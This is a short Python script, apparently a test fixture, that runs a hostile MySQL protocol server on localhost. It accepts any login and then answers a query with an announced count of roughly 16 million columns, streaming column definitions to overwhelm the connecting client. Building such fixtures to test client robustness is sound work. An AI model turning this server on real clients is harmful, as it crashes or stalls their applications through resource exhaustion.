"""A hostile server of MySQL's protocol: python endless_columns.py PORT.

It accepts any login, and answers the first query whose answer has rows with columns without end.
"""

from __future__ import annotations

import contextlib
import socket
import sys

GREETING = (
    b"\x0a" b"5.5.5\x00" b"\x01\x00\x00\x00" b"saltsalt\x00" b"\xff\xf7" b"\x2d" b"\x02\x00"
    b"\x0f\x00" b"\x15" + bytes(10) + b"saltsaltsalt\x00" b"mysql_native_password\x00"
)  # fmt: skip
OK = b"\x00\x00\x00\x02\x00\x00\x00"
MANY = b"\xfd\xff\xff\xff"  # columns
COLUMN = b"\x03def" + bytes(5) + b"\x0c\x2d\x00\xff\x00\x00\x00\x03" + bytes(5)


def packets(first: int, *payloads: bytes) -> bytes:
    """Return packets of the protocol, numbered from the first one."""
    return b"".join(
        len(payload).to_bytes(3, "little") + bytes([(first + index) % 256]) + payload
        for index, payload in enumerate(payloads)
    )


def talk(client: socket.socket) -> None:
    """Talk until the client leaves; at most some 15 million columns."""
    client.sendall(packets(0, GREETING))
    if not client.recv(4096):
        return
    client.sendall(packets(2, OK))
    while b"SESSION" not in (query := client.recv(4096)):  # sets variables, whose answer is short
        if not query:
            return
        client.sendall(packets(1, OK))
    client.sendall(packets(1, MANY))
    again = packets(2, *[COLUMN] * 256)
    for _ in range(3000):
        client.sendall(again * 20)


if __name__ == "__main__":
    with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as listener:
        while True:
            with listener.accept()[0] as connection, contextlib.suppress(OSError):
                talk(connection)
